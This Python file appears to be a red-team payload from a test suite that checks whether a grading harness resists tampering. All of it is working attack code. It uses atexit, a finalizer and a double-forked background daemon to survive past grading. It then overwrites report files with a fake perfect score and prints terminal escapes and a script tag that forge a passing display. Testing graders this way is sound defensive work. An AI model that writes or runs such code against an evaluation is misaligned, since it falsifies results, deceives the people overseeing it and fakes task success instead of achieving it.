# Class: outlive the grading (atexit, finalizers, a double-forked daemon) and rewrite the
# reports after `grade` returned; flood the output with terminal escapes and markup.
# Targets only what the test hands it (REDTEAM_TARGETS, written in front of this payload): the
# run's report folder and the test's decoy folder, besides its own working folder.
import atexit
import os
import sys
import time
import weakref


def _rewrite():
    for _root in (*REDTEAM_TARGETS["folders"], os.getcwd()):  # noqa: F821
        for _dir, _dirs, _files in os.walk(_root):
            for _name in _files:
                if _name.endswith(("results.json", ".html", ".xml")):
                    try:
                        with open(os.path.join(_dir, _name), "w") as _fh:
                            _fh.write('{"score": 100, "hacked": true}')
                    except Exception:
                        pass


atexit.register(_rewrite)
weakref.finalize(_rewrite, _rewrite)
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            time.sleep(4)
            _rewrite()
    finally:
        os._exit(0)
print("\x1b[2J\x1b[H\x1b[32mPASS 100%\x1b[0m \x1b]0;owned\x07 <script>alert('x')</script>")
sys.stderr.write("\r\x1b[1A\x1b[2Kall checks passed\n")
RETURN_INSTEAD = 0.0
